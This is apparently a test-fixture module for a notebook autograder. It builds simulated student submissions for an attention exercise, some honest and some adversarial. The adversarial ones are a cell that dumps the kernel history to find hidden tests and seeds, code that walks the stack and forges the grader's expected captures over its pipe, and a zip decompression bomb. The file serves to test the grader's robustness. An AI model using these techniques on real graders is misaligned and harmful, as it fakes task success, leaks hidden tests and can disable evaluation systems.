"""Issue 26, classes 5, 6 and 8: the channel between the check and the grader. Honest code the
check must not trip on (a helper defined below the solution cell; `from torch import *`,
`from numpy import *` and names such as print, max, sum, exec, globals rebound), a last cell
that prints the kernel's history, a student who forges the probe's captures, and one who hands
the grader a decompression bomb."""
import copy

import nbformat

from nbtools import solution_sources, student_notebook

A01 = "01_attention"

# 8a: correct code whose helpers live in a cell just BELOW its solution cell
HELPER_SOFTMAX = """def softmax(x, dim=-1):
    e = _shifted_exp(x, dim)
    return e / e.sum(dim=dim, keepdim=True)
"""
HELPER_SOFTMAX_BELOW = """def _shifted_exp(x, dim):
    return (x - x.amax(dim=dim, keepdim=True)).exp()
"""
HELPER_SDPA = """def scaled_dot_product_attention(q, k, v):
    weights = softmax(_scores(q, k), dim=-1)
    return weights @ v, weights
"""
HELPER_SDPA_BELOW = """def _scores(q, k):
    return q @ k.transpose(-2, -1) / math.sqrt(q.size(-1))
"""

# 8b: a star import and everyday names that shadow builtins, above every exercise
SHADOW = """from torch import *      # torch.compile, max, sum, abs, round ... shadow the builtins
from numpy import *      # and numpy's max, sum, all, any ...
import builtins as _builtins

def print(*args, **kwargs):          # every line flushed at once
    _builtins.print(*args, **kwargs, flush=True)

max, sum = 10, 0                     # a maximum and a running total
exec = "fast"                        # an execution mode
globals = {"lr": 0.1}                # the global settings of an experiment
"""

# 5: a last cell that prints the kernel's history: the start of every entry and any line that
# names a seed, a hidden test or the probe (short enough that the feedback keeps all of it)
HISTORY = """import linecache

def _peek(entries):
    return [s[:100] + " | " + " ".join(ln for ln in s.splitlines() if "seed" in ln
                                       or "HIDDEN" in ln or "probe" in ln)[:300] for s in entries]

print("In:", _peek(In))
print("_ih:", _peek(_ih))
print("Out:", Out, _oh)
print("linecache:", _peek(["".join(v[2]) for k, v in list(linecache.cache.items())
                           if len(v) > 2 and ("ipykernel" in k or k.startswith("<"))]))
%history
"""
# what none of the student's outputs may hold: the hidden tests and the probe's plan
SECRET_TEXT = ("BEGIN HIDDEN TESTS", "seed=9173", "seed=4242", "lock_guard", "run_probes", "tfs_check",
               '"target"', '"tensors"')

# The check's own channel, as a student who read the grader would find it: the one pipe the
# check's process may write to (stdout and stderr go nowhere there); None in the kernel.
_CHANNEL = """import fcntl as _fcntl, json as _json, os as _os, stat as _stat, sys as _sys

def _channel():
    if "ipykernel" in _sys.modules:
        return None
    for fd in range(3, 256):
        try:
            if _stat.S_ISFIFO(_os.fstat(fd).st_mode) and \\
                    _fcntl.fcntl(fd, _fcntl.F_GETFL) & _os.O_ACCMODE == _os.O_WRONLY:
                return fd
        except OSError:
            pass

def _send(doc):
    fd = _channel()
    if fd is not None:
        _os.write(fd, (_json.dumps(dict(doc, kind="capture")) + "\\n").encode())
"""

# 6: wrong code (overflows on large logits) that forges the captures the check expects: it
# reads the probe's frame, computes the right answer on the side, and writes its own capture
# for that probe to the check's channel before the probe's real one
FORGE = _CHANNEL + """import base64 as _b64, io as _io
import numpy as _np

def _probe_frame():
    f = _sys._getframe(2)            # up the stack to the probe machine's frame that holds it
    while f is not None and not isinstance(f.f_locals.get("probe"), dict):
        f = f.f_back
    return f.f_locals if f is not None else {}

def softmax(x, dim=-1):
    where = _probe_frame()
    probe, ci = where.get("probe"), where.get("ci")
    if isinstance(probe, dict) and isinstance(ci, int):
        z = x.detach().double()
        z = (z - z.amax(dim=dim, keepdim=True)).exp()
        buf = _io.BytesIO()
        _np.savez_compressed(buf, **{f"{probe['name']}.{ci}.out": (z / z.sum(dim=dim, keepdim=True)).to(x.dtype).numpy()})
        _send({"exercise": "softmax", "probe": probe["name"],
               "caps": _b64.b64encode(buf.getvalue()).decode(), "meta": {}})
    return x.exp() / x.exp().sum(dim=dim, keepdim=True)
"""

# 6: a decompression bomb (512 MB of zeros in a 0.5 MB npz) written to the check's channel by
# the attention function, once, while the probe calls it
BOMB = _CHANNEL + """import base64 as _b64, io as _io, zipfile as _zf
import numpy as _np

_BOMBED = []

def _bomb(probe_name):
    buf = _io.BytesIO()
    header = _io.BytesIO()
    _np.lib.format.write_array_header_1_0(header, {"descr": "<f4", "fortran_order": False,
                                                    "shape": (2**27,)})
    info = _zf.ZipInfo(f"{probe_name}.0.out.0.npy")
    info.compress_type = _zf.ZIP_DEFLATED
    with _zf.ZipFile(buf, "w") as z:
        with z.open(info, "w", force_zip64=True) as f:
            f.write(header.getvalue())
            zeros = bytes(2**22)
            for _ in range(128):
                f.write(zeros)
    return _b64.b64encode(buf.getvalue()).decode()

def scaled_dot_product_attention(q, k, v):
    f = _sys._getframe(1)            # up the stack to the probe machine's frame that holds it
    while f is not None and not isinstance(f.f_locals.get("probe"), dict):
        f = f.f_back
    probe = f.f_locals.get("probe") if f is not None else None
    if isinstance(probe, dict) and not _BOMBED:
        _BOMBED.append(1)
        _send({"exercise": "scaled_dot_product_attention", "probe": probe["name"],
               "caps": _bomb(probe["name"]), "meta": {}})
    d_k = q.size(-1)
    weights = softmax(q @ k.transpose(-2, -1) / math.sqrt(d_k), dim=-1)
    return weights @ v, weights
"""


def _insert_after(nb, grade_id, source):
    """A new code cell right after the cell with this grade id."""
    at = next(i for i, c in enumerate(nb.cells)
              if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)
    nb.cells.insert(at + 1, nbformat.v4.new_code_cell(source))
    return nb


def students():
    sols = solution_sources(A01)
    helper = student_notebook(A01, dict(sols, softmax=HELPER_SOFTMAX,
                                        scaled_dot_product_attention=HELPER_SDPA))
    _insert_after(helper, "softmax", HELPER_SOFTMAX_BELOW)
    _insert_after(helper, "scaled_dot_product_attention", HELPER_SDPA_BELOW)
    shadow = _insert_after(student_notebook(A01, sols), "setup_imports", SHADOW)
    history = student_notebook(A01, sols)
    history.cells.append(nbformat.v4.new_code_cell(HISTORY))
    forge = student_notebook(A01, dict(sols, softmax=FORGE))
    bomb = student_notebook(A01, dict(sols, scaled_dot_product_attention=BOMB))
    return [("chan_helper", A01, helper), ("chan_shadow", A01, shadow),
            ("chan_history", A01, history), ("chan_forge", A01, forge),
            ("chan_bomb", A01, copy.deepcopy(bomb))]
